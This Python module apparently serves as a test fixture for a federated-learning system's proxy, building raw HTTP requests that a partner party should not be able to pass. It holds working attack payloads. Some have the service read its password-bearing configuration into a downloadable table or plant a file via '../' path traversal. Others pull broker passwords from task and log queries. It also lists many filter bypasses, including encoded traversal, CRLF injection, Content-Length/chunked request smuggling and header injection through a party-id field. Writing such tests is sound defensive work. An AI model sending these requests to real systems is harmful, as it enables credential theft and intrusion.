"""Requests that a partner sends to a party's proxy, as bytes: those of the attack, and ways around a list of paths."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

PLANTED = "/tmp/planted_by_the_partner"
COLLECT = "/v2/partner/task/collect"
NO_TASK = {"job_id": "0", "role": "host", "task_id": "0", "task_version": 0}
_BOUNDARY = "partner"


def request(
    verb: str, target: str, body: bytes = b"", *, party: str = "9999", headers: Mapping[str, str] | None = None
) -> bytes:
    """One request. Its length is stated unless the headers say how it is sent."""
    given = {"Host": "fate", "dest-party-id": party, "service": "fateflow", "Content-Type": "application/json"}
    given |= {"Connection": "close", **(headers or {})}
    if "Transfer-Encoding" not in given:
        given.setdefault("Content-Length", str(len(body)))
    lines = [f"{verb} {target} HTTP/1.1", *(f"{name}: {value}" for name, value in given.items())]
    return "\r\n".join([*lines, "", ""]).encode("latin-1") + body


def document(**fields: Any) -> bytes:
    """A JSON document."""
    return json.dumps(fields).encode()


def exploits(config: str) -> dict[str, bytes]:
    """What was done to a party whose proxy passed all of flow.

    Args:
        config: flow's own configuration file, with the passwords of database and broker.
    """
    upload = document(
        file=config, head=False, partitions=1, meta={"delimiter": "\n"}, namespace="stolen", name="configuration"
    )
    return {
        "has flow read its own configuration into a table": request("POST", "/v2/data/component/upload", upload),
        "reads that table": request("GET", "/v2/data/download?namespace=stolen&name=configuration"),
        "asks for tasks, whose parameters have the broker's password": request("GET", "/v2/job/task/query"),
        "asks for logs, which have it too": request("GET", "/v2/log/query?log_type=schedule_info&job_id=1"),
        "writes a file as flow": request("POST", "/v2/worker/model/save", _model(), headers=_FORM),
        "registers a provider of its own": request(
            "POST", "/v2/provider/register", document(name="x", device="local", version="1", metadata={"path": "/tmp"})
        ),
        "asks for every server": request("GET", "/v2/server/query/all"),
        "reads a page that says only the version": request("GET", "/v2/server/fateflow"),
    }


_FORM = {"Content-Type": f"multipart/form-data; boundary={_BOUNDARY}"}


def _model() -> bytes:
    """The form of `worker/model/save`, whose file name leads out of the store."""
    fields = {"execution_id": "x", "meta_data": "{}", "type_name": "x", "model_id": "../../../../../tmp"}
    parts = [f'name="{name}"\r\n\r\n{value}' for name, value in fields.items()]
    parts.append(f'name="file"; filename="{PLANTED}"\r\nContent-Type: application/octet-stream\r\n\r\nplanted')
    whole = "".join(f"--{_BOUNDARY}\r\nContent-Disposition: form-data; {part}\r\n" for part in parts)
    return f"{whole}--{_BOUNDARY}--\r\n".encode()


PAGE = "/v2/server/fateflow"
"""A page of the flow behind that answers everyone, and shows that a request has arrived there."""
_AROUND = (
    f"/{PAGE}",
    "//v2//server//fateflow",
    f"/v2/partner/job/../..{PAGE.removeprefix('/v2')}",
    f"/v2/partner/job/create/../../../..{PAGE}",
    "/v2/partner/job/%2e%2e/%2e%2e/server/fateflow",
    "/v2/partner/job/%2E%2E%2F%2E%2E%2Fserver/fateflow",
    "/v2/partner/job/%252e%252e/%252e%252e/server/fateflow",
    "/v2/partner/job/..;/..;/server/fateflow",
    "/v2/partner/job/..\\..\\server\\fateflow",
    "/V2/server/fateflow",
    "/v2/Server/FateFlow",
    f"{PAGE}/",
    f"{PAGE}?x=/v2/partner/task/collect",
    f"{PAGE}#/v2/partner/task/collect",
    f"{PAGE}%00",
    f"{PAGE}%23/v2/partner/task/collect",
    f"{COLLECT}/../../..{PAGE.removeprefix('/v2')}",
    f"{COLLECT}%0a{PAGE}",
    f"{COLLECT}%0d%0a%0d%0aGET%20{PAGE}%20HTTP/1.1",
    f"{COLLECT}%20HTTP/1.1%0d%0aX:",
    f"/fatecloud/health/../..{PAGE}",
    f"/fatecloud/..{PAGE}",
    f"http://127.0.0.1:9380{PAGE}",
    f"http://party_9999{PAGE}",
    f"http://fate:9300{PAGE}",
    f"@127.0.0.1:9380{PAGE}",
    "*",
)


_OPEN = {"Connection": "keep-alive"}


def ways_around() -> dict[str, bytes]:
    """Every way to write, hide or smuggle a request for a page that is not passed."""
    found = {f"{verb} {target}": request(verb, target) for target in _AROUND for verb in ("GET", "POST")}
    task = document(**NO_TASK, party_id="9999")
    for verb in ("GET", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "post", "PURGE"):
        found[f"{verb} of a page that is passed by POST"] = request(verb, COLLECT, task)
    for name in ("X-HTTP-Method-Override", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Uri", "X-Forwarded-Prefix"):
        hidden = {name: "POST" if name.startswith("X-HTTP") else PAGE}
        found[f"{name} on another page"] = request("GET", "/v2/none", headers=hidden)
    second = request("GET", PAGE)
    found["a second request behind a length and chunks"] = request(
        "POST",
        "/v2/none",
        b"0\r\n\r\n" + second,
        headers={"Transfer-Encoding": "chunked", "Content-Length": "6", **_OPEN},
    )
    found["a second request in the body"] = request(
        "POST", "/v2/none", second, headers={"Content-Length": "0", **_OPEN}
    )
    found["an upgrade to HTTP/2"] = request(
        "GET", PAGE, headers={"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABkAAQAAP__", "Connection": "Upgrade"}
    )
    found["a request without a host"] = f"GET {PAGE} HTTP/1.0\r\ndest-party-id: 9999\r\n\r\n".encode()
    return found


def relays() -> dict[str, bytes]:
    """Requests for other parties than this one: it must not carry them, nor say which parties it knows."""
    task = document(**NO_TASK, party_id="10000")
    found = {f"for party {party!r}": request("POST", COLLECT, task, party=party) for party in ("10000", "7", "", "0")}
    found["for two parties"] = request("POST", COLLECT, task, party="10000\r\ndest-party-id: 9999")
    found["for a host"] = request("POST", COLLECT, task, party="127.0.0.1:9380")
    found["the proxy's routes"] = request("GET", "/fatecloud/route")
    return found
